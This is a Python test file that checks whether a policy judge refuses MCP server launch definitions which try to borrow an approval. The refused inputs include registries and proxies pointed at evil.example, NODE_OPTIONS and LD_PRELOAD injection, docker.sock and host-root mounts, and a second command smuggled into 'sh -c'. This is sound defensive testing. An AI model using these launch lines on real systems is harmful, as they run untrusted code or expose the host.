# SPDX-License-Identifier: Apache-2.0
"""Attempts to borrow an approval, and honest uses beside them, through the real launch room (design 5 to 7)."""

import pytest

from halod.drift import judge
from halod.policy.model import Entry, Package
from tests.support.drift import (
    BRIDGE,
    DIGEST,
    OCI,
    WIKI_URL,
    command_entry,
    http,
    npm_entry,
    registry,
    stdio,
    url_entry,
)

IMAGE = f"acme/tools@sha256:{DIGEST}"
MIRROR = "https://packages.acme.example/npm/"
PYPI = Package(type="pypi", identifier="acme-git", version="2.0", version_text="2.0")
POLICY = registry(
    npm_entry(bin="github-mcp"),
    Entry(id="git", package=PYPI),
    Entry(id="image", package=OCI, args="any", tolerate=frozenset({"host-mount", "privileged"})),
    Entry(
        id="listed",
        package=Package(type="npm", identifier="@acme/listed", version="1.0.0"),
        env=frozenset({"TOKEN", "NODE_OPTIONS"}),
        args=("--mode", "ro"),
        tolerate=frozenset({"cwd-override"}),
    ),
    Entry(id="bridge", package=BRIDGE),
    url_entry(),
    command_entry("/opt/acme/bin/house-mcp", "--stdio"),
    mirrors=(("npm", (MIRROR,)),),
)
RUN = ("run", "-i", "--rm")


def _kind(command, *args, **more):
    return judge(stdio(command, *args, **more), POLICY).kind


@pytest.mark.parametrize(
    ("line", "more"),
    [
        (["npx", "-y", "@acme/tools@1.2.0"], {}),
        (["npx", "-y", "@acme/tools@1.2.0", "--registry", "https://evil.example/"], {}),
        (["npx", "-y", "-p", "@acme/tools@1.2.0", "github-mcp"], {}),
        (["npx", "--registry", MIRROR, "-y", "@acme/tools@1.2.0"], {}),
        (["npx", "-y", "@acme/tools@1.2.0"], {"env": [("npm_config_registry", MIRROR)]}),
        (["env", f"NPM_CONFIG_REGISTRY={MIRROR}", "npx", "-y", "@acme/tools@1.2.0"], {}),
        (["sh", "-c", "npx -y @acme/tools@1.2.0"], {}),
        (["uvx", "acme_git@2.0.0"], {}),
        (["uvx", "--from", "acme-git==2.0", "acme-git"], {}),
        (["docker", *RUN, IMAGE], {}),
        (["docker", *RUN, "-v", "/srv/data:/data", IMAGE, "-t", "stdio"], {}),
        (["docker", *RUN, "--privileged", "-e", "TOKEN", IMAGE], {}),
        (["docker", *RUN, "--mount", "type=bind,src=/srv/data,dst=/data,ro", IMAGE], {}),
        (["docker", *RUN, "-v", "/srv/data:/data", "-e", "PATH=/usr/local/bin:/usr/bin:/bin", IMAGE], {}),
        (["npx", "-y", "@acme/listed@1.0.0", "--mode", "ro"], {"env": [("TOKEN", "x")]}),
        (
            ["npx", "-y", "@acme/listed@1.0.0", "--mode", "ro"],
            {"env": [("NODE_OPTIONS", "x")], "cwd": "/srv"},
        ),
        (["env", "TOKEN=x", "npx", "-y", "@acme/listed@1.0.0", "--mode", "ro"], {}),
        (["npx", "-y", "mcp-remote@0.1.29", WIKI_URL, "--header", "A: ${B}"], {}),
        (["/opt/acme/bin/house-mcp", "--stdio"], {"env": [("TOKEN", "x")]}),
    ],
)
def test_an_honest_definition_is_approved(line, more):
    """Each in a form that the registry approves or answers."""
    assert _kind(*line, **more) == "approved"


@pytest.mark.parametrize(
    ("line", "more"),
    [
        (["npx", "--registry", "https://evil.example/", "-y", "@acme/tools@1.2.0"], {}),
        (["npx", "--registry", MIRROR, "-y", "@acme/tools@1.2.0"], {"env": [("NPM_CONFIG_REGISTRY", "https://e.example/")]}),
        (["npx", "--registry", MIRROR, "--registry", "https://evil.example/", "-y", "@acme/tools@1.2.0"], {}),
        (["npx", "--registry", "-y", "@acme/tools@1.2.0"], {}),
        (["npx", "-y", "-p", "@acme/tools@1.2.0", "sh", "-c", "x"], {}),
        (["npx", "-y", "-p", "@acme/tools@1.2.0", "-p", "evil@1.0.0", "github-mcp"], {}),
        (["npx", "-y", "@acme/tools@1.2.0"], {"env": [("NODE_OPTIONS", "--require=/tmp/x")]}),
        (["npx", "-y", "@acme/tools@1.2.0"], {"env": [("Path", "/tmp/x")]}),
        (["npx", "-y", "@acme/tools@1.2.0"], {"cwd": "/tmp/x"}),
        (["/tmp/npx", "-y", "@acme/tools@1.2.0"], {}),
        (["sh", "-c", "npx -y @acme/tools@1.2.0; x"], {}),
        (["uvx", "--with", "evil", "acme-git@2.0"], {}),
        (["uvx", "--index-url", MIRROR, "acme-git@2.0"], {}),
        (["uvx", "--from", "acme-git==2.0", "sh"], {}),
        (["uvx", "-p=", "3.12", "acme-git@2.0"], {}),
        (["uvx", " acme-git@2.0"], {}),
        (["uvx", "acme-git[x] @2.0"], {}),
        (["uvx", "--from", "\tacme-git@2.0", "acme-git"], {}),
        (["docker", *RUN, "-v", "/:/host", IMAGE], {}),
        (["docker", *RUN, "-v", "/tmp/x://app", IMAGE], {}),
        (["docker", *RUN, "-v", "/tmp/x:/data/../app", IMAGE], {}),
        (["docker", *RUN, "--mount", "type=bind,src=/tmp/x,dst=/usr/local/bin", IMAGE], {}),
        (["docker", *RUN, "--mount", "src=/srv,src=/var/run/docker.sock,dst=/data", IMAGE], {}),
        (["docker", *RUN, "--mount", "src=/srv,src=/run,dst=/data", IMAGE], {}),
        (["docker", *RUN, "--mount", "src=x,volume-opt=o=bind,volume-opt=device=/run,dst=/data", IMAGE], {}),
        (["docker", *RUN, "-v", "/tmp/x:/root/.local/bin", "-e", "PATH=/root/.local/bin:/bin", IMAGE], {}),
        (["docker", *RUN, "-v", "/var/run/docker.sock:/s", IMAGE], {}),
        (["docker", *RUN, "-v", "/var/run:/s", IMAGE], {}),
        (["docker", *RUN, "-v", "${X}:/data", IMAGE], {}),
        (["docker", *RUN, "-v", "/a:/data", "--volumes-from", "x", IMAGE], {}),
        (["docker", *RUN, "--entrypoint", "sh", IMAGE], {}),
        (["docker", *RUN, "--network", "host", IMAGE], {}),
        (["docker", *RUN, "-e", "NODE_OPTIONS=x", IMAGE], {}),
        (["docker", *RUN, IMAGE], {"env": [("DOCKER_HOST", "tcp://evil.example")]}),
        (["npx", "-y", "@acme/listed@1.0.0", "--mode", "rw"], {}),
        (["npx", "-y", "@acme/listed@1.0.0", "--mode", "ro"], {"env": [("OTHER", "x")]}),
        (["env", "OTHER=x", "npx", "-y", "@acme/listed@1.0.0", "--mode", "ro"], {}),
        (["npx", "-y", "@acme/listed@1.0.0", "--mode", "ro"], {"env": [("NODE_PATH", "x")]}),
        (["npx", "-y", "mcp-remote@0.1.29", WIKI_URL, "--resource", "https://evil.example/"], {}),
        (["npx", "-y", "mcp-remote@0.1.29", "https://evil.example/", WIKI_URL], {}),
        (["npx", "-y", "mcp-remote@0.1.29", WIKI_URL + "/../../x"], {}),
        (["npx", "-y", "mcp-remote@0.1.29", WIKI_URL], {"env": [("HTTPS_PROXY", "http://evil.example/")]}),
        (["npx", "-y", "mcp-remote@0.1.29", WIKI_URL], {"env": [("NODE_OPTIONS", "x")]}),
        (["/opt/acme/bin/house-mcp", "--stdio"], {"env": [("LD_PRELOAD", "/tmp/x.so")]}),
        (["/opt/acme/bin/house-mcp", "--stdio"], {"cwd": "/tmp/x"}),
        (["/opt/acme/bin/house-mcp", "--stdio"], {"features": frozenset({"env-file"})}),
        (["/opt/acme/bin/house-mcp", "--stdio", ""], {}),
        (["/opt/acme/bin/../bin/house-mcp", "--stdio"], {}),
        (["house-mcp", "--stdio"], {}),
    ],
)  # fmt: skip
def test_a_borrowed_approval_is_refused(line, more):
    """Anything that could run other code than the pinned package is never approved."""
    assert _kind(*line, **more) != "approved"


def test_the_bridge_without_a_url_is_not_approved():
    """SSE_URL in the environment is the payload and unsafe."""
    policy = registry(
        Entry(id="proxy", package=Package(type="pypi", identifier="mcp-proxy", version="0.9.0")), url_entry()
    )
    assert judge(stdio("uvx", "mcp-proxy@0.9.0", WIKI_URL), policy).kind == "approved"
    assert judge(stdio("uvx", "mcp-proxy@0.9.0", env=[("SSE_URL", WIKI_URL)]), policy).kind == "unapproved"
    both = stdio("uvx", "mcp-proxy@0.9.0", WIKI_URL, env=[("SSE_URL", "https://evil.example/")])
    assert judge(both, policy).kind == "unapproved"
    assert judge(stdio("uvx", "mcp-proxy@0.9.0"), policy).kind == "unapproved"


def test_a_bridge_in_a_bridge():
    """Each layer is judged; one that is not approved makes the whole not approved."""
    policy = registry(
        Entry(id="proxy", package=Package(type="pypi", identifier="mcp-proxy", version="0.9.0")),
        Entry(id="bridge", package=BRIDGE),
        url_entry(),
    )
    line = ["uvx", "mcp-proxy@0.9.0", "--", "npx", "-y", "mcp-remote@0.1.29"]
    assert judge(stdio(*line, WIKI_URL), policy).entry == "wiki"
    assert judge(stdio(*line, "https://evil.example/"), policy).kind == "unapproved"
    inner = ["uvx", "mcp-proxy@0.9.0", "--", "npx", "-y", "mcp-remote@0.1.28", WIKI_URL]
    assert judge(stdio(*inner), policy).kind == "version-drift"


def test_a_directory_set_around_a_carrier_reaches_what_it_carries():
    """`env -C DIR` around a bridge starts the carried npx there, where a local copy goes first (found by fuzzing)."""
    policy = registry(
        Entry(id="proxy", package=Package(type="pypi", identifier="mcp-proxy", version="0.9.0"),
              tolerate=frozenset({"cwd-override"})),
        npm_entry(), url_entry(),
    )  # fmt: skip
    line = ["uvx", "mcp-proxy@0.9.0", "--", "npx", "-y", "@acme/tools@1.2.0"]
    assert judge(stdio(*line), policy).kind == "approved"
    assert judge(stdio("env", "-C", "/tmp/x", *line), policy).kind == "unapproved"
    assert judge(stdio("env", "-C", "/tmp/x", "sh", "-c", " ".join(line)), policy).kind == "unapproved"
    assert judge(stdio(*line, cwd="/tmp/x"), policy).kind == "unapproved"
    assert judge(stdio("env", "-C", "/x", "uvx", "mcp-proxy@0.9.0", WIKI_URL), policy).kind == "approved"


def test_an_unsafe_key_beside_a_url():
    """Design 6: rules 2 and 3 need that no unsafe environment key is present, or that the entry answers it."""
    policy = registry(url_entry())
    assert judge(http(WIKI_URL, env=[("TOKEN", "x")]), policy).kind == "approved"
    found = judge(http(WIKI_URL, env=[("NODE_OPTIONS", "x")]), policy)
    assert (found.kind, found.note, found.flags) == (
        "unapproved",
        "approved-with-unsafe",
        ("code-injection",),
    )
    assert judge(http(WIKI_URL + "/", env=[("HTTPS_PROXY", "x")]), policy).kind == "unapproved"
    listed = registry(url_entry(env=frozenset({"NODE_OPTIONS"})))
    assert judge(http(WIKI_URL, env=[("NODE_OPTIONS", "x")]), listed).kind == "approved"
    assert judge(http(WIKI_URL, env=[("TOKEN", "x")]), listed).flags == ("env-unknown",)


def test_options_of_the_inspector_behind_its_command():
    """The inspector reads its options anywhere: they set the environment of the server, or start another one."""
    pin = Package(type="npm", identifier="@modelcontextprotocol/inspector", version="0.17.0")
    policy = registry(Entry(id="inspector", package=pin), npm_entry())
    line = ["npx", "-y", "@modelcontextprotocol/inspector@0.17.0", "npx", "-y", "@acme/tools@1.2.0"]
    assert judge(stdio(*line), policy).kind == "approved"
    for more in (
        ["-e", "NODE_OPTIONS=x"],
        ["-eA=b"],
        ["--config", "/x", "--server", "y"],
        ["--cli"],
        ["--", "x"],
    ):
        assert judge(stdio(*line, *more), policy).kind == "unapproved"


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        (["uvx", "acme-git"], "approved"),
        (["docker", *RUN, "acme/tools"], "approved"),
        (["uvx", "--with-requirements", "r.txt", "acme-git"], "unapproved"),
        (["docker", *RUN, "-v", "./conf:/app", "acme/tools"], "unapproved"),
        (["docker", *RUN, "--env-file", ".env", "acme/tools"], "unapproved"),
        (["uvx", "mcp-proxy@0.9.0", "--", "npx", "-y", "@acme/tools"], "unapproved"),
        (["npx", "-y", "@acme/tools"], "unapproved"),
        (["./server"], "unapproved"),
    ],
)
def test_a_hash_vouches_for_words_and_not_for_where_they_are_read(line, kind):
    """A relative file of a line that is pinned by its hash is another file in another directory."""
    policy = registry(Entry(id="hash", definition_sha256=stdio(*line).sha256))
    assert judge(stdio(*line), policy).kind == "approved"
    assert judge(stdio(*line, cwd="/tmp/x"), policy).kind == kind
